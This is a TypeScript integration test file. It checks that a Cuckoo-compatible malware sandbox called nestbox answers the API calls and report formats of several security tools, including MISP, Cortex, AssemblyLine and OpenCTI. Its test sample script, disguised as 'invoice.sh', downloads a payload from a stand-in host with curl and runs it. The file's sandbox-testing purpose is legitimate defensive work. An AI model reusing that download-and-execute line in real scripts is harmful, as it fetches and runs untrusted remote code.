import assert from 'node:assert/strict';
import { execFileSync } from 'node:child_process';
import { createHash, randomBytes } from 'node:crypto';
import { mkdirSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { setTimeout as sleep } from 'node:timers/promises';
import { after, before, describe, it } from 'node:test';
import { startTestServer, type TestServer } from '../helpers/server.js';

/**
 * The Cuckoo integrations of docs/integrations.md, replayed against nestbox: each request is sent the way
 * that integration sends it (paths, field names, multipart layout, auth header) and every field it reads
 * is checked for presence and type. Reports come from real tasks run on the Linux machine: a script, a URL
 * and a script unpacked from a zip given to create/submit.
 */

/** A sample with something for every reader: processes, DNS, HTTP, a dropped file, matched signatures. */
const SAMPLE = `#!/bin/sh
echo "stolen data" > /tmp/dropped.txt
curl -s -o /tmp/payload http://malware-c2.example/payload.bin
chmod +x /tmp/payload && /tmp/payload
`;
const SAMPLE_NAME = 'invoice.sh';

// ---------------------------------------------------------------------------------------------------
// Request bodies as the clients' HTTP libraries build them.

interface Part {
  name: string;
  value: string | Uint8Array;
  filename?: string;
  contentType?: string;
}

/**
 * A multipart body laid out as Python's `requests` writes `data=` fields then `files=` parts: a 32 hex
 * digit boundary, no Content-Type on parts built from a (name, content) tuple. aiohttp's FormData differs
 * only by giving file parts `application/octet-stream`, which callers pass as contentType.
 */
function multipart(parts: Part[]): { body: Buffer; contentType: string } {
  const boundary = randomBytes(16).toString('hex');
  const chunks: Buffer[] = [];
  for (const part of parts) {
    const filename = part.filename === undefined ? '' : `; filename="${part.filename}"`;
    const type = part.contentType ? `\r\nContent-Type: ${part.contentType}` : '';
    chunks.push(Buffer.from(`--${boundary}\r\nContent-Disposition: form-data; name="${part.name}"${filename}${type}\r\n\r\n`));
    chunks.push(Buffer.from(part.value));
    chunks.push(Buffer.from('\r\n'));
  }
  chunks.push(Buffer.from(`--${boundary}--\r\n`));
  return { body: Buffer.concat(chunks), contentType: `multipart/form-data; boundary=${boundary}` };
}

/** requests' `data=` fields: Python values rendered with str() (True -> "True", 300 -> "300"). */
const fields = (values: Record<string, string>): Part[] => Object.entries(values).map(([name, value]) => ({ name, value }));

async function post(server: TestServer, path: string, parts: Part[], headers: Record<string, string> = {}) {
  const { body, contentType } = multipart(parts);
  const response = await fetch(server.url + path, { method: 'POST', body, headers: { 'content-type': contentType, ...headers } });
  return { status: response.status, body: (await response.json()) as any };
}

async function postUrlencoded(server: TestServer, path: string, values: Record<string, string>, headers: Record<string, string> = {}) {
  const response = await fetch(server.url + path, {
    method: 'POST',
    body: new URLSearchParams(values).toString(),
    headers: { 'content-type': 'application/x-www-form-urlencoded', ...headers },
  });
  return { status: response.status, body: (await response.json()) as any };
}

async function get(server: TestServer, path: string, headers: Record<string, string> = {}) {
  const response = await fetch(server.url + path, { headers });
  return { response, bytes: Buffer.from(await response.arrayBuffer()) };
}

async function getJson(server: TestServer, path: string, headers: Record<string, string> = {}) {
  const { response, bytes } = await get(server, path, headers);
  assert.equal(response.status, 200, `${path}: ${bytes.toString().slice(0, 300)}`);
  return JSON.parse(bytes.toString()) as any;
}

// ---------------------------------------------------------------------------------------------------
// Shapes: what a client indexes, with the type it needs.

type Shape = 'string' | 'number' | 'integer' | 'boolean' | 'string|null' | 'number|null' | 'object' | 'array' | 'any'
  | { [key: string]: Shape }
  | ArrayShape;

interface ArrayShape {
  each: Shape;
  /** At least this many elements: a reader looping over nothing proves nothing. */
  min?: number;
}

const list = (each: Shape, min = 0): ArrayShape => ({ each, min });

function isArrayShape(shape: Shape): shape is ArrayShape {
  return typeof shape === 'object' && 'each' in shape && Object.keys(shape).every((key) => key === 'each' || key === 'min');
}

/** Asserts that `value` has every key of `shape` with its type; extra keys are allowed. */
function assertShape(value: unknown, shape: Shape, path = '$'): void {
  if (typeof shape === 'string') return assertScalar(value, shape, path);
  if (isArrayShape(shape)) {
    assert.ok(Array.isArray(value), `${path} must be an array, got ${JSON.stringify(value)?.slice(0, 80)}`);
    assert.ok(value.length >= (shape.min ?? 0), `${path} must have at least ${shape.min} element(s)`);
    value.forEach((element, index) => assertShape(element, shape.each, `${path}[${index}]`));
    return;
  }
  assert.ok(value !== null && typeof value === 'object' && !Array.isArray(value), `${path} must be an object`);
  for (const [key, inner] of Object.entries(shape)) {
    assert.ok(Object.hasOwn(value, key), `${path}.${key} is missing`);
    assertShape((value as Record<string, unknown>)[key], inner, `${path}.${key}`);
  }
}

function assertScalar(value: unknown, type: string, path: string): void {
  const ok = {
    string: typeof value === 'string',
    number: typeof value === 'number',
    integer: Number.isInteger(value),
    boolean: typeof value === 'boolean',
    'string|null': value === null || typeof value === 'string',
    'number|null': value === null || typeof value === 'number',
    object: value !== null && typeof value === 'object' && !Array.isArray(value),
    array: Array.isArray(value),
    any: value !== undefined,
  }[type];
  assert.ok(ok, `${path} must be ${type}, got ${JSON.stringify(value)?.slice(0, 80)}`);
}

// ---------------------------------------------------------------------------------------------------
// Archives.

/** tar cannot guess the compression of its standard input: the flag comes from the magic bytes. */
function compressionFlag(archive: Buffer): string {
  if (archive.subarray(0, 3).toString() === 'BZh') return 'j';
  if (archive[0] === 0x1f && archive[1] === 0x8b) return 'z';
  return '';
}

/** Member names of a tar archive (compressed or not), listed by the system tar. */
function tarNames(archive: Buffer): string[] {
  return execFileSync('tar', [`-t${compressionFlag(archive)}f`, '-'], { input: archive }).toString().split('\n').filter(Boolean);
}

function tarMember(archive: Buffer, member: string): Buffer {
  return execFileSync('tar', [`-x${compressionFlag(archive)}Of`, '-', member], { input: archive, maxBuffer: 64 * 1024 * 1024 });
}

/** The MISP import module's path lookup: an absolute host path is matched to an archive member by its tail. */
function relativeMember(names: Set<string>, path: string): string {
  const parts = path.split('/').filter(Boolean);
  for (let start = 0; start < parts.length; start++) {
    const candidate = parts.slice(start).join('/');
    if (names.has(candidate)) return candidate;
  }
  return '';
}

// ---------------------------------------------------------------------------------------------------

const YARA = { name: 'string', meta: 'object' } as const;

const FILE_INFO: Shape = {
  name: 'string', path: 'string|null', size: 'integer', crc32: 'string', md5: 'string', sha1: 'string',
  sha256: 'string', sha512: 'string', ssdeep: 'string|null', type: 'string', yara: list(YARA), urls: list('string'),
};

const PROCESS_NODE: Shape = { pid: 'integer', ppid: 'integer', process_name: 'string', command_line: 'string', children: 'array' };

async function waitForStatus(server: TestServer, id: number, done: (status: string) => boolean, timeoutMs = 300_000) {
  const deadline = Date.now() + timeoutMs;
  for (;;) {
    const { task } = await getJson(server, `/tasks/view/${id}`);
    if (done(task.status)) return task;
    if (Date.now() > deadline) throw new Error(`task ${id} still ${task.status}`);
    await sleep(500);
  }
}

describe('Cuckoo integrations against nestbox', { timeout: 900_000 }, () => {
  /** The engine server: authentication off, as every integration that sends no token needs. */
  let server: TestServer;
  /** API-only servers, whose tasks never run: one without authentication and one with a token. */
  let plain: TestServer;
  let guarded: TestServer;
  const TOKEN = 'integration-token';
  const bearer = { Authorization: `Bearer ${TOKEN}` };
  let taskId: number;
  let report: any;
  let urlReport: any;

  before(async () => {
    server = await startTestServer({ machines: [{ name: 'linux1' }] }, { engine: true, pollMs: 200 });
    plain = await startTestServer({ machines: [{ name: 'linux1' }] });
    guarded = await startTestServer({ api: { token: TOKEN }, machines: [{ name: 'linux1' }] });
    // Submitted the way sandboxapi's analyze() does: one `file` tuple part, no other field.
    const created = await post(server, '/tasks/create/file', [{ name: 'file', filename: SAMPLE_NAME, value: SAMPLE }]);
    assert.equal(created.status, 200, JSON.stringify(created.body));
    taskId = created.body.task_id;
    const task = await waitForStatus(server, taskId, (status) => status === 'reported' || status.startsWith('failed'));
    assert.equal(task.status, 'reported', `errors: ${task.errors.join('; ')}`);
    report = await getJson(server, `/tasks/report/${taskId}/json`);
    // Urlencoded as Cortex's url_analysis sends it (its exact request is replayed below), plus a short timeout:
    // the browser never exits on its own. The page is served by the fake internet.
    const url = await postUrlencoded(server, '/tasks/create/url', { url: 'http://phish.example/login', timeout: '15' });
    assert.equal(url.status, 200, JSON.stringify(url.body));
    const urlTask = await waitForStatus(server, url.body.task_id, (status) => status === 'reported' || status.startsWith('failed'));
    assert.equal(urlTask.status, 'reported', `errors: ${urlTask.errors.join('; ')}`);
    urlReport = await getJson(server, `/tasks/report/${url.body.task_id}/json`);
  });
  after(async () => {
    await guarded?.close();
    await plain?.close();
    await server?.close();
  });

  describe('sandboxapi (InQuest/python-sandboxapi, sandboxapi/cuckoo.py)', () => {
    it('finds the service, submits, polls, lists and reads the score', async () => {
      assert.equal((await get(server, '/cuckoo/status')).response.status, 200);
      const created = await post(plain, '/tasks/create/file', [{ name: 'file', filename: 'x.bin', value: 'sandboxapi' }]);
      assert.equal(created.status, 200);
      assert.ok(Number.isInteger(created.body.task_id), 'str(task_id) must be a number, not None');
      const view = await getJson(server, `/tasks/view/${taskId}`);
      assert.ok(['completed', 'reported'].includes(view.task.status));
      const listed = await getJson(plain, '/tasks/list');
      assertShape(listed, { tasks: list({ id: 'integer', status: 'string', tags: list('string'), target: 'string' }, 1) });
      assert.ok(listed.tasks.some((task: { status: string }) => task.status === 'pending'), 'queue_size() counts pending tasks');
      // score(): report['malscore'] first (cuckoo-modified); only its absence leads to info.score.
      assert.equal(Object.hasOwn(report, 'malscore'), false);
      assertShape(report, { info: { score: 'number' } });
      assert.equal((await get(plain, `/tasks/delete/${created.body.task_id}`)).response.status, 200);
    });
  });

  describe('PeekabooAV (scVENUS/PeekabooAV, peekaboo/toolbox/cuckoo.py)', () => {
    it('submits through aiohttp with its bearer token and only ever accepts status 200', async () => {
      // aiohttp FormData: the file part carries application/octet-stream; every request carries the token.
      const part = { name: 'file', filename: 'a1b2c3.docm', value: 'peekaboo', contentType: 'application/octet-stream' };
      const created = await post(guarded, '/tasks/create/file', [part], bearer);
      assert.equal(created.status, 200);
      assert.ok(Number.isInteger(created.body.task_id) && created.body.task_id > 0);
      assert.equal((await post(guarded, '/tasks/create/file', [part], { Authorization: 'Bearer wrong' })).status, 401);
      const view = await getJson(guarded, `/tasks/view/${created.body.task_id}`, bearer);
      assertShape(view, { task: { status: 'string' } });
      const status = await getJson(server, '/cuckoo/status', { Authorization: 'Bearer ' });
      assertShape(status, { tasks: { reported: 'integer' } });
    });

    it('validates the report against its schema and finds the success line in debug.cuckoo', async () => {
      const fetched = await getJson(server, `/tasks/report/${taskId}`);
      assertShape(fetched, {
        network: { dns: list({ request: 'string' }, 1) },
        signatures: list({ description: 'string' }, 1),
        info: { score: 'number' },
        debug: { errors: list('string'), cuckoo: list('string', 1) },
      });
      // The default cuckoo_analysis_failed rule: without this line every analysis counts as failed.
      assert.ok(fetched.debug.cuckoo.some((line: string) => line.includes('analysis completed successfully')), fetched.debug.cuckoo.join('\n'));
    });
  });

  describe('TheHive Cortex (TheHive-Project/Cortex-Analyzers, analyzers/CuckooSandbox)', () => {
    it('submits a file and a URL, with and without a token', async () => {
      const file = await post(guarded, '/tasks/create/file', [{ name: 'file', filename: 'cortex.exe', value: 'cortex' }], bearer);
      assert.equal(file.status, 200);
      assert.equal(Object.hasOwn(file.body, 'task_ids'), false, 'task_ids is read first when present');
      assert.ok(Number.isInteger(file.body.task_id));
      const url = await postUrlencoded(guarded, '/tasks/create/url', { url: 'http://evil.example/landing' }, bearer);
      assertShape(url.body, { task_id: 'integer' });
      const refused = await post(guarded, '/tasks/create/file', [{ name: 'file', filename: 'cortex.exe', value: 'cortex' }]);
      assert.equal(refused.status, 401, 'it reports "API token is required" on a 401');
      assertShape(refused.body, { message: 'string' });
    });

    it('reads signatures, domains, URIs, the score, the file type and YARA matches', async () => {
      assertShape(report, {
        signatures: list({ description: 'string' }, 1),
        network: { domains: list({ ip: 'string', domain: 'string' }, 1), http: list({ uri: 'string' }, 1) },
        info: { score: 'number' },
        target: { file: { type: 'string', yara: list(YARA) } },
      });
      assert.equal(Object.hasOwn(report, 'malscore'), false, 'malscore would be read instead of info.score');
    });

    it('reads the same keys of a URL report, with target.url in place of the file', async () => {
      assertShape(urlReport, {
        signatures: list({ description: 'string' }),
        network: { domains: list({ ip: 'string', domain: 'string' }, 1), http: list({ uri: 'string' }, 1) },
        info: { score: 'number' },
        target: { category: 'string', url: 'string' },
      });
      assert.equal(urlReport.target.url, 'http://phish.example/login');
    });
  });

  describe('MISP (MISP/misp-modules)', () => {
    it('cuckoo_submit: posts files and URLs with owner=MISP and a bearer header, an empty key included', async () => {
      const file = await post(plain, '/tasks/create/file', [...fields({ owner: 'MISP' }), { name: 'file', filename: 'sample.xls', value: 'misp' }], { Authorization: 'Bearer ' });
      assertShape(file.body, { task_id: 'integer' });
      const owned = await getJson(plain, `/tasks/view/${file.body.task_id}`);
      assert.equal(owned.task.owner, 'MISP');
      const url = await postUrlencoded(guarded, '/tasks/create/url', { url: 'http://evil.example/', owner: 'MISP' }, bearer);
      assertShape(url.body, { task_id: 'integer' });
      // A MISP `domain` attribute is sent as the url itself. Cuckoo stores it; nestbox opens it over http.
      const domain = await postUrlencoded(guarded, '/tasks/create/url', { url: 'evil.example', owner: 'MISP' }, bearer);
      assertShape(domain.body, { task_id: 'integer' });
      assert.equal((await getJson(guarded, `/tasks/view/${domain.body.task_id}`, bearer)).task.target, 'http://evil.example');
      assert.equal((await postUrlencoded(guarded, '/tasks/create/url', { url: 'evil.example' }, { Authorization: 'Bearer nope' })).status, 401);
    });

    it('cuckooimport: reads the bz2 "all" archive: report, binary, screenshots and dropped files by path', async () => {
      const { response, bytes } = await get(server, `/tasks/report/${taskId}/all`);
      assert.equal(response.status, 200);
      assert.equal(bytes.subarray(0, 3).toString(), 'BZh', 'the API archive is opened with mode r:bz2');
      const names = new Set(tarNames(bytes));
      const archived = JSON.parse(tarMember(bytes, 'reports/report.json').toString());
      assert.equal(tarMember(bytes, 'binary').toString(), SAMPLE);
      assertShape(archived, {
        info: { score: 'number', duration: 'integer', machine: { started_on: 'string', name: 'string', label: 'string' } },
        target: { category: 'string', file: { name: 'string' } },
        network: {
          http: list({ host: 'string', method: 'string', uri: 'string', 'user-agent': 'string', count: 'integer', port: 'integer' }, 1),
          tcp: list({ src: 'string', dst: 'string', sport: 'integer', dport: 'integer', time: 'number' }, 1),
          udp: list({ src: 'string', dst: 'string', sport: 'integer', dport: 'integer', time: 'number' }, 1),
          dns: list({ type: 'string', request: 'string', answers: list({ type: 'string', data: 'string' }) }, 1),
        },
        signatures: list({ marks: list({ type: 'string' }), description: 'string', ttp: 'object' }, 1),
        behavior: { processtree: list(PROCESS_NODE, 1) },
        dropped: list({ name: 'string', filepath: 'string', sha256: 'string', path: 'string', yara: list(YARA), pids: list('integer') }, 1),
      });
      for (const signature of archived.signatures) {
        for (const [technique, description] of Object.entries(signature.ttp)) assertShape(description, { short: 'string' }, `ttp.${technique}`);
        for (const mark of signature.marks.filter((m: { type: string }) => m.type === 'call')) assertShape(mark, { call: { api: 'string' } });
        for (const mark of signature.marks.filter((m: { type: string }) => m.type === 'ioc')) assertShape(mark, { ioc: 'any' });
      }
      for (const file of archived.dropped) assert.notEqual(relativeMember(names, file.path), '', `${file.path} is in the archive`);
      for (const shot of archived.screenshots ?? []) assert.notEqual(relativeMember(names, shot.path), '', `${shot.path} is in the archive`);
    });
  });

  describe('FAME (certsocietegenerale/fame_modules, processing/cuckoo)', () => {
    it('submits with timeout, enforce_timeout=True and a route option', async () => {
      const options = fields({ timeout: '300', enforce_timeout: 'True', options: 'route=drop' });
      const file = await post(plain, '/tasks/create/file', [...options, { name: 'file', filename: 'fame.doc', value: 'fame' }]);
      assertShape(file.body, { task_id: 'integer' });
      const stored = await getJson(plain, `/tasks/view/${file.body.task_id}`);
      assert.equal(stored.task.enforce_timeout, true);
      assert.equal(stored.task.timeout, 300);
      assert.deepEqual(stored.task.options, { route: 'drop' });
      const url = await postUrlencoded(plain, '/tasks/create/url', { timeout: '300', enforce_timeout: 'True', options: 'route=internet', url: 'http://evil.example/' });
      assertShape(url.body, { task_id: 'integer' });
    });

    it('streams the default report for signatures, score and IOCs, then downloads the pcap', async () => {
      const fetched = await getJson(server, `/tasks/report/${taskId}`);
      assertShape(fetched, {
        signatures: list({ name: 'string', severity: 'integer', description: 'string' }, 1),
        info: { score: 'number' },
        network: { domains: list({ domain: 'string' }, 1), http: list({ uri: 'string' }, 1) },
      });
      const pcap = await get(server, `/pcap/get/${taskId}`);
      assert.equal(pcap.response.status, 200);
      assert.equal(pcap.bytes.readUInt32LE(0), 0xa1b2c3d4, 'a pcap file');
    });
  });

  describe('AssemblyLine (CybercentreCanada/assemblyline-service-cuckoo)', () => {
    it('lists machines and status, submits with its task fields, polls the task object', async () => {
      const machines = await getJson(guarded, '/machines/list', bearer);
      assertShape(machines, { machines: list({ name: 'string', platform: 'string', ip: 'string', tags: list('string') }, 1) });
      assert.equal((await get(guarded, '/cuckoo/status', bearer)).response.status, 200);
      const data = fields({ timeout: '150', enforce_timeout: 'True', options: 'free=yes,route=none', memory: 'True', platform: 'linux', tags: '' });
      const created = await post(guarded, '/tasks/create/file', [...data, { name: 'file', filename: 'al.exe', value: 'assemblyline' }], bearer);
      assert.equal(created.status, 200, JSON.stringify(created.body));
      assertShape(created.body, { task_id: 'integer' });
      const pending = await getJson(guarded, `/tasks/view/${created.body.task_id}`, bearer);
      assertShape(pending, { task: { id: 'integer', status: 'string', errors: list('string'), guest: 'object' } });
      assert.equal(pending.task.id, created.body.task_id, 'a mismatched id makes it poll again');
    });

    it('downloads "all" as tar.gz and "dropped" as bz2, both with a Content-Length', async () => {
      const all = await get(server, `/tasks/report/${taskId}/all?tar=gz`);
      assert.equal(all.response.status, 200);
      assert.equal(Number(all.response.headers.get('content-length')), all.bytes.length, 'int(resp.headers["Content-Length"])');
      assert.deepEqual([...all.bytes.subarray(0, 2)], [0x1f, 0x8b]);
      assert.ok(tarNames(all.bytes).includes('reports/report.json'));
      const dropped = await get(server, `/tasks/report/${taskId}/dropped`);
      assert.equal(Number(dropped.response.headers.get('content-length')), dropped.bytes.length);
      assert.ok(tarNames(dropped.bytes).some((name) => /^files\/[^/]+$/.test(name)), 'dropped files sit under files/');
    });

    it('builds its result from info, debug, behavior, network and signatures', async () => {
      const machines = await getJson(server, '/machines/list');
      assertShape(report, {
        info: { id: 'integer', version: 'string', duration: 'integer', started: 'number', ended: 'number', machine: { name: 'string', manager: 'string' } },
        debug: { errors: list('string'), log: list('string'), cuckoo: list('string') },
        behavior: {
          processes: list({ process_name: 'string', process_path: 'string', command_line: 'string', first_seen: 'number', pid: 'integer', ppid: 'integer', calls: list({ api: 'string', category: 'string', arguments: 'object' }) }, 1),
          processtree: 'array',
          summary: 'object',
        },
        network: {
          dns_servers: list('string'),
          dns: list({ request: 'string', type: 'string', answers: list({ data: 'string' }) }, 1),
          tcp: list({ src: 'string', sport: 'integer', dst: 'string', dport: 'integer', time: 'number' }, 1),
          udp: list({ src: 'string', sport: 'integer', dst: 'string', dport: 'integer', time: 'number' }, 1),
          http: list({ host: 'string', path: 'string', data: 'string', port: 'integer', uri: 'string', method: 'string' }, 1),
        },
        signatures: list({ name: 'string', severity: 'integer', marks: 'array' }, 1),
        target: { file: { name: 'string' } },
      });
      assert.ok(machines.machines.some((machine: { name: string }) => machine.name === report.info.machine.name), 'info.machine.name is looked up in /machines/list');
      for (const signature of report.signatures) assert.ok(signature.severity >= 1 && signature.severity <= 8, 'SCORE_TRANSLATION has keys 1 to 8');
    });
  });

  describe('OpenCTI (OpenCTI-Platform/connectors, external-import/cuckoo)', () => {
    it('picks reported tasks from /tasks/list and parses /tasks/summary strictly', async () => {
      const listed = await getJson(server, '/tasks/list');
      const task = listed.tasks.find((candidate: { id: number }) => candidate.id === taskId);
      assertShape(task, { id: 'integer', status: 'string', completed_on: 'string' });
      assert.equal(task.status, 'reported');
      const summary = await getJson(server, `/tasks/summary/${taskId}`);
      assertShape(summary, {
        info: {
          id: 'integer', added: 'number', started: 'number', ended: 'number', duration: 'integer', category: 'string',
          route: 'string|null', package: 'string', score: 'number', platform: 'string', version: 'string',
          machine: { label: 'string', manager: 'string', name: 'string', shutdown_on: 'string|null', started_on: 'string', status: 'string' },
        },
        target: { category: 'string', file: FILE_INFO },
        network: {
          dead_hosts: 'array', dns_servers: 'array', domains: 'array', hosts: 'array',
          dns: list({ request: 'string', type: 'string', answers: list({ data: 'string', type: 'string' }) }, 1),
          http: 'array',
          icmp: list({ data: 'string', dst: 'string', src: 'string', type: 'integer' }),
          tcp: list({ dport: 'integer', dst: 'string', offset: 'integer', sport: 'integer', src: 'string', time: 'number' }, 1),
          udp: list({ dport: 'integer', dst: 'string', offset: 'integer', sport: 'integer', src: 'string', time: 'number' }, 1),
        },
        behavior: { processtree: list(PROCESS_NODE, 1), summary: 'object' },
        signatures: list({ description: 'string', markcount: 'integer', name: 'string', families: 'array', references: 'array', severity: 'integer', ttp: 'object' }, 1),
        dropped: list({ ...(FILE_INFO as Record<string, Shape>), filepath: 'string', pids: 'array' }, 1),
      });
      for (const signature of summary.signatures) {
        for (const description of Object.values(signature.ttp)) assertShape(description, { short: 'string', long: 'string' });
      }
      const children = (node: { children: unknown[] }): void => node.children.forEach((child) => { assertShape(child, PROCESS_NODE); children(child as { children: unknown[] }); });
      summary.behavior.processtree.forEach(children);
      assert.equal(Object.hasOwn(summary.behavior, 'processes'), false, 'the summary leaves out behavior.processes');
    });
  });

  describe('Cortex XSOAR (demisto/content, Packs/CuckooSandbox)', () => {
    it('tests the connection, submits file and URL as multipart, views, lists machines and deletes', async () => {
      assert.equal((await get(guarded, '/tasks/list', bearer)).response.status, 200);
      const file = await post(guarded, '/tasks/create/file', [...fields({ machine: 'linux1', package: 'generic', timeout: '60', fileID: '7@1' }), { name: 'file', filename: 'xsoar.bin', value: 'xsoar', contentType: 'application/octet-stream' }], bearer);
      assert.equal(file.status, 200, JSON.stringify(file.body));
      assertShape(file.body, { task_id: 'integer' });
      const url = await post(guarded, '/tasks/create/url', fields({ url: 'http://evil.example/x' }), bearer);
      assertShape(url.body, { task_id: 'integer' });
      const view = await getJson(guarded, `/tasks/view/${file.body.task_id}`, bearer);
      assertShape(view, {
        task: {
          category: 'string', machine: 'string|null', errors: 'array', target: 'string', package: 'string|null', sample_id: 'integer',
          guest: 'object', custom: 'string|null', owner: 'string|null', priority: 'integer', platform: 'string|null', options: 'object',
          status: 'string', enforce_timeout: 'boolean', timeout: 'integer', memory: 'boolean', tags: 'array', id: 'integer', added_on: 'string',
        },
      });
      assertShape(await getJson(guarded, '/machines/view/linux1', bearer), { machine: { name: 'string', label: 'string', resultserver_port: 'integer' } });
      const deleted = await get(guarded, `/tasks/delete/${url.body.task_id}`, bearer);
      const answer = JSON.parse(deleted.bytes.toString());
      assert.ok(answer.status ?? answer.message, 'it prints res.status or res.message');
    });

    it('maps the report info and target.file, and downloads the screenshots', async () => {
      assertShape(report, { info: { id: 'integer', category: 'string', package: 'string', score: 'number' }, target: { file: FILE_INFO }, network: 'object', signatures: 'array' });
      const shots = await get(server, `/tasks/screenshots/${taskId}`);
      assert.equal(shots.response.status, 200);
      assert.equal(shots.bytes.subarray(0, 2).toString(), 'PK');
    });
  });

  describe('a file unpacked from a submitted zip (create/submit)', () => {
    const MEMBER = '#!/bin/sh\necho unpacked > /tmp/from-archive.txt\n';
    const digest = (algorithm: string, data: string | Buffer) => createHash(algorithm).update(data).digest('hex');
    let zip: Buffer;
    let memberTask: number;
    let memberReport: any;

    before(async () => {
      const dir = mkdtempSync(join(tmpdir(), 'nestbox-integrations-zip-'));
      try {
        mkdirSync(join(dir, 'tree/tools'), { recursive: true });
        writeFileSync(join(dir, 'tree/tools/invoice.sh'), MEMBER);
        execFileSync('7z', ['a', '-bd', '../bundle.zip', 'tools'], { cwd: join(dir, 'tree'), stdio: 'ignore' });
        zip = readFileSync(join(dir, 'bundle.zip'));
      } finally {
        rmSync(dir, { recursive: true, force: true });
      }
      // Sent as requests sends files=[("files", (name, bytes))]: a tuple part without a Content-Type.
      const submitted = await post(server, '/tasks/create/submit', [{ name: 'files', filename: 'bundle.zip', value: zip }]);
      assert.equal(submitted.status, 200, JSON.stringify(submitted.body));
      assertShape(submitted.body, { errors: list('string'), submit_id: 'integer', task_ids: list('integer', 1) });
      assert.deepEqual(submitted.body.errors, []);
      assert.equal(submitted.body.task_ids.length, 1);
      memberTask = submitted.body.task_ids[0];
      const task = await waitForStatus(server, memberTask, (status) => status === 'reported' || status.startsWith('failed'));
      assert.equal(task.status, 'reported', `errors: ${task.errors.join('; ')}`);
      memberReport = await getJson(server, `/tasks/report/${memberTask}/json`);
    });

    it('reports the target as Cuckoo 2.0.7 does: category archive, filename, the archive record, human', () => {
      const { target } = memberReport;
      assertShape(target, { category: 'string', filename: 'string', human: 'string', file: FILE_INFO, archive: FILE_INFO });
      assert.equal(target.category, 'archive');
      assert.equal(target.filename, 'tools/invoice.sh');
      assert.equal(target.human, 'tools/invoice.sh @ bundle.zip');
      assert.equal(target.file.name, 'invoice.sh');
      assert.equal(target.file.sha256, digest('sha256', MEMBER));
      const { archive } = target;
      assert.deepEqual([archive.name, archive.size, archive.md5, archive.sha1, archive.sha256, archive.sha512],
        ['bundle.zip', zip.length, digest('md5', zip), digest('sha1', zip), digest('sha256', zip), digest('sha512', zip)]);
      assert.match(archive.type, /^Zip archive data/);
      assert.equal(memberReport.info.category, 'archive');
      assert.ok(memberReport.behavior.processtree.length > 0, 'the unpacked file ran');
    });

    it('keeps target.file for the report readers: Cortex, MISP cuckooimport, OpenCTI, AssemblyLine, XSOAR', async () => {
      // Every reader that is not on a URL report goes to target.file; OpenCTI does so for any category but url.
      assertShape(memberReport, { target: { category: 'string', file: FILE_INFO }, info: { id: 'integer', category: 'string', score: 'number' } });
      const summary = await getJson(server, `/tasks/summary/${memberTask}`);
      assertShape(summary, { target: { category: 'string', file: FILE_INFO } });
      assert.equal(summary.target.archive.sha256, digest('sha256', zip));
    });

    it('answers /tasks/view and /tasks/list with what the polling integrations read', async () => {
      const { task } = await getJson(server, `/tasks/view/${memberTask}`);
      // AssemblyLine: id, status, errors, guest.status; sandboxapi, PeekabooAV, Cortex, FAME: status; XSOAR: the task fields.
      assertShape(task, {
        id: 'integer', status: 'string', errors: list('string'), guest: { status: 'string' },
        category: 'string', machine: 'string|null', target: 'string', package: 'string|null', sample_id: 'integer',
        custom: 'string|null', owner: 'string|null', priority: 'integer', platform: 'string|null', options: 'object',
        enforce_timeout: 'boolean', timeout: 'integer', memory: 'boolean', tags: 'array', added_on: 'string', completed_on: 'string',
      });
      assert.deepEqual([task.id, task.status, task.category], [memberTask, 'reported', 'archive']);
      assert.equal(task.target.split('/').pop(), 'invoice.sh', 'the target is the unpacked file that ran');
      assert.equal(task.sample.sha256, digest('sha256', MEMBER));
      const listed = (await getJson(server, '/tasks/list')).tasks.find((candidate: { id: number }) => candidate.id === memberTask);
      assertShape(listed, { id: 'integer', status: 'string', completed_on: 'string', tags: list('string'), target: 'string' });
    });
  });
});
